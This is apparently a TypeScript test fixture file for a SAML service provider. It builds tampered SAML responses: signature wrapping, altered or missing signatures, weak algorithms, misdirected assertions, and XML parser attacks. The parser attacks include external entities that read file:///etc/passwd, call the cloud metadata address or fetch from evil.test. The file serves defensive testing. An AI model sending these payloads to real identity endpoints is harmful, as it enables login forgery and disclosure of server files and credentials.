import { type aDocument, type Change, strangersKey } from './saml.ts'

/** Documents that an attacker, or a careless provider, might send. Each has one thing wrong. */
export type Making = NonNullable<Parameters<typeof aDocument>[1]>

export const in_ =
  (what: string | RegExp, by: string): Change =>
  (xml) => {
    const changed = xml.replace(what, by)
    if (changed === xml) throw new Error(`${what} is not in the document`)
    return changed
  }
const prolog =
  (text: string): Change =>
  (xml) =>
    text + xml
const nested = (depth: number): string => '<x>'.repeat(depth) + '</x>'.repeat(depth)
const assertionIn = (xml: string): string => /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? ''
const signatureIn = (xml: string): string => /<Signature.*?<\/Signature>/s.exec(xml)?.[0] ?? ''
const evil: Change = (xml) =>
  xml.replaceAll('hana@globex.test', 'admin@globex.test').replaceAll('subject-1', 'admin')
const withId =
  (id: string): Change =>
  (xml) =>
    xml.replace(/ID="_assertion-\d+"/, `ID="${id}"`)
const unsigned: Change = (xml) => xml.replace(signatureIn(xml), '')
const dtd = (inner: string) => prolog(`<!DOCTYPE Response [${inner}]>`)
const sha1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1'
const bearer = 'urn:oasis:names:tc:SAML:2.0:cm:bearer'
const email = in_.bind(undefined, 'hana@globex.test')

/** A document that was not signed in this form. */
export const altered: Record<string, Making> = {
  'nobody signed it': { key: undefined },
  'a stranger signed it': { key: strangersKey() },
  'the address was changed afterwards': { after: email('admin@globex.test') },
  'the subject was changed afterwards': { after: in_('subject-1', 'subject-2') },
  'the group was changed afterwards': { after: in_('engineering', 'administrators') },
  'the audience was changed afterwards': { after: in_('</saml:Audience>', '/</saml:Audience>') },
  'the digest was changed': { after: in_(/<DigestValue>.{4}/, '<DigestValue>AAAA') },
  'the signature was changed': { after: in_(/<SignatureValue>.{4}/, '<SignatureValue>AAAA') },
  'the signature is empty': { after: in_(/<SignatureValue>[^<]*/, '<SignatureValue>') },
  'the signature was taken out': { after: unsigned },
  'it refers to nothing': { after: in_(/URI="#[^"]*"/, 'URI=""') },
  'it refers to something else': { after: in_(/URI="#[^"]*"/, 'URI="#other"') },
  'its reference was taken out': { after: in_(/<Reference.*<\/Reference>/s, '') },
  'it has two references': { after: (xml) => xml.replace(/<Reference.*<\/Reference>/s, '$&$&') },
  'it is signed twice in one place': { after: (xml) => xml.replace(signatureIn(xml), '$&$&') },
  'the signature is of another kind': { after: in_('xmldsig#">', 'xmldsig-more#">') },
}

/** Signature wrapping: the signed assertion is still there, another one is to be read. */
export const wrapped: Record<string, Change> = {
  'an unsigned one before it': (xml) =>
    xml.replace('<saml:Assertion', `${evil(withId('_e')(unsigned(assertionIn(xml))))}<saml:Assertion`),
  'an unsigned one after it': (xml) =>
    xml.replace('</saml:Assertion>', `</saml:Assertion>${evil(withId('_e')(unsigned(assertionIn(xml))))}`),
  'one of the same id before it': (xml) =>
    xml.replace('<saml:Assertion', `${evil(unsigned(assertionIn(xml)))}<saml:Assertion`),
  'the signed one inside another': (xml) => {
    const signed = assertionIn(xml)
    const outer = evil(withId('_e')(unsigned(signed))).replace(
      '</saml:Assertion>',
      `${signed}</saml:Assertion>`,
    )
    return xml.replace(signed, outer)
  },
  'the signed one inside the signature of another': (xml) => {
    const signed = assertionIn(xml)
    const object = signatureIn(signed).replace(
      '</Signature>',
      `<Object>${unsigned(signed)}</Object></Signature>`,
    )
    return xml.replace(signed, evil(withId('_e')(signed)).replace(signatureIn(signed), object))
  },
  'the signed one among extensions': (xml) => {
    const signed = assertionIn(xml)
    return xml
      .replace(signed, evil(withId('_e')(unsigned(signed))))
      .replace('<samlp:Status>', `<samlp:Extensions>${signed}</samlp:Extensions><samlp:Status>`)
  },
  'the signed one in an element of its own': (xml) => {
    const signed = assertionIn(xml)
    return xml.replace(signed, `${evil(withId('_e')(unsigned(signed)))}<x>${signed}</x>`)
  },
  'the signed response inside another': (xml) =>
    evil(unsigned(xml)).replace(
      '</samlp:Response>',
      `<samlp:Extensions>${xml}</samlp:Extensions></samlp:Response>`,
    ),
  'the signature moved to the response': (xml) => {
    const signature = signatureIn(xml)
    return evil(xml.replace(signature, '')).replace('<samlp:Status>', `${signature}<samlp:Status>`)
  },
  'an assertion of another namespace': (xml) =>
    xml.replace(
      '<samlp:Status>',
      `<Assertion xmlns="urn:x">${evil('hana@globex.test')}</Assertion><samlp:Status>`,
    ),
  'an encrypted one beside it': (xml) =>
    xml.replace('<samlp:Status>', '<saml:EncryptedAssertion></saml:EncryptedAssertion><samlp:Status>'),
}

/** What parsers read in different ways, or do more than read. */
export const treacherous: Record<string, Making> = {
  'a document type': { after: prolog('<!DOCTYPE Response>') },
  'an entity': { after: dtd('<!ENTITY a "x">') },
  'an entity of a file': { after: dtd('<!ENTITY a SYSTEM "file:///etc/passwd">') },
  'an entity of another server': { after: dtd('<!ENTITY a SYSTEM "http://169.254.169.254/">') },
  'entities that grow': { after: dtd('<!ENTITY a "xx"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">') },
  'a parameter entity': { after: dtd('<!ENTITY % a SYSTEM "http://evil.test/"> %a;') },
  'a document type in small letters': { after: prolog('<!doctype Response>') },
  'an entity that is used': { after: email('hana@globex.test&a;') },
  'an instruction': { after: prolog('<?php echo 1 ?>') },
  'a style sheet': { after: prolog('<?xml-stylesheet href="http://evil.test/"?>') },
  'an instruction within': { after: in_('<samlp:Status>', '<?x y?><samlp:Status>') },
  'a comment in the address': { before: email('admin@globex.test<!-- -->.evil.test') },
  'a comment in the subject': { before: in_('subject-1', 'admin<!---->x') },
  'a comment after signing': { after: email('hana@globex.test<!-- x -->') },
  'a comment before all': { after: prolog('<!-- hello -->') },
  'a section of raw text': { before: email('<![CDATA[hana@globex.test]]>') },
  'an element in the address': { before: email('admin@globex.test<b>.evil.test</b>') },
  'an element in the subject': { before: in_('subject-1', 'admin<b/>') },
  'two elements of one id': { after: in_('<samlp:Status>', '<samlp:Status ID="_twice"><x ID="_twice"/>') },
  'an id spelled otherwise': { after: in_(/(ID="_assertion-\d+")/, '$1 Id="_response"') },
  'too deep': { after: in_('<samlp:Status>', `${nested(80)}<samlp:Status>`) },
  'too many elements': { after: in_('<samlp:Status>', `${'<x/>'.repeat(6000)}<samlp:Status>`) },
  'too large': { after: in_('<samlp:Status>', `${' '.repeat(300_000)}<samlp:Status>`) },
  'an end that is missing': { after: in_('</samlp:Response>', '') },
  'ends that cross': { after: in_('</saml:Issuer>', '</samlp:Issuer>') },
  'an attribute without quotes': { after: in_('Version="2.0"', 'Version=2.0') },
  'an attribute twice': { after: in_('Version="2.0"', 'Version="2.0" Version="2.0"') },
  'a prefix that nobody declared': { after: in_('<samlp:Status>', '<y:z/><samlp:Status>') },
  'something after the end': { after: (xml) => `${xml}<x/>` },
  'a null character': { after: in_('Hana', 'Ha\u0000na') },
}

/** Weak or foreign ways to sign. */
export const weak: Record<string, Making> = {
  'signed with SHA-1': { signing: { signatureAlgorithm: sha1 } },
  'digested with SHA-1': { signing: { digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' } },
  'in the older canonical form': {
    signing: { canonicalization: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315' },
  },
  'in the form that keeps comments': {
    signing: { canonicalization: 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments' },
  },
  'with a shared secret': { after: in_(/xmldsig-more#rsa-sha256/, 'xmldsig-more#hmac-sha256') },
  'with a transform that picks': {
    after: in_('xmldsig#enveloped-signature', 'xmldsig#xpath'),
  },
  'with a style sheet as transform': {
    after: in_(
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/TR/1999/REC-xslt-19991116',
    ),
  },
}

/** Signed by the right provider, and not for us, not now, or without a subject. */
export const misdirected: Record<string, Making> = {
  'for another service': { answer: { audience: 'https://other.test/' } },
  'for nobody': { before: in_(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/, '') },
  'for two services at once': {
    before: in_(
      '</saml:AudienceRestriction>',
      '</saml:AudienceRestriction><saml:AudienceRestriction><saml:Audience>https://other.test/</saml:Audience></saml:AudienceRestriction>',
    ),
  },
  'without conditions': { before: in_(/<saml:Conditions.*<\/saml:Conditions>/, '') },
  'with two sets of conditions': { before: in_(/<saml:Conditions.*<\/saml:Conditions>/, '$&$&') },
  'sent to another server': { answer: { acsUrl: 'https://other.test/login/saml/acs' } },
  'with a recipient that only begins like us': { before: in_(/Recipient="[^"]*/, '$&.evil.test') },
  'with no recipient': { before: in_(/ Recipient="[^"]*"/, '') },
  'with another destination': { before: in_(/Destination="[^"]*"/, 'Destination="https://other.test/"') },
  'of another issuer': { answer: { issuer: 'https://other-idp.test/' } },
  'of two issuers': { before: in_(/(ID="_assertion.*?)(<saml:Issuer>.*?<\/saml:Issuer>)/, '$1$2$2') },
  'to another request': { answer: { requestId: '_another-request' } },
  'to no request': { before: (xml) => xml.replaceAll(/ InResponseTo="[^"]*"/g, '') },
  'to no request within': { before: in_(/(Recipient="[^"]*") InResponseTo="[^"]*"/, '$1') },
  'to another request within': { before: in_(/(Recipient="[^"]*" InResponseTo=")[^"]*/, '$1_other') },
  'for whoever holds a key': { before: in_(bearer, 'urn:oasis:names:tc:SAML:2.0:cm:holder-of-key') },
  'confirmed by nobody': { before: in_(/<saml:SubjectConfirmation .*<\/saml:SubjectConfirmation>/, '') },
  'confirmed without end': { before: in_(/(ConfirmationData) NotOnOrAfter="[^"]*"/, '$1') },
  'of nobody': { before: in_(/<saml:NameID.*<\/saml:NameID>/, '') },
  'of an empty name': { choice: { subject: '' } },
  'of two': { before: in_(/<saml:NameID.*<\/saml:NameID>/, '$&$&') },
  'without a sign-in': { before: in_(/<saml:AuthnStatement.*<\/saml:AuthnStatement>/, '') },
  'without a subject': { before: in_(/<saml:Subject>.*<\/saml:Subject>/, '') },
  'of another version of the protocol': {
    before: in_(/(<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:)2/, '$11'),
  },
  'in a response of another issuer': { after: in_('<saml:Issuer>', '<saml:Issuer>https://x.test/') },
  'no response at all': { after: (xml) => assertionIn(xml) },
  'a request instead': { after: (xml) => xml.replaceAll('samlp:Response', 'samlp:AuthnRequest') },
}
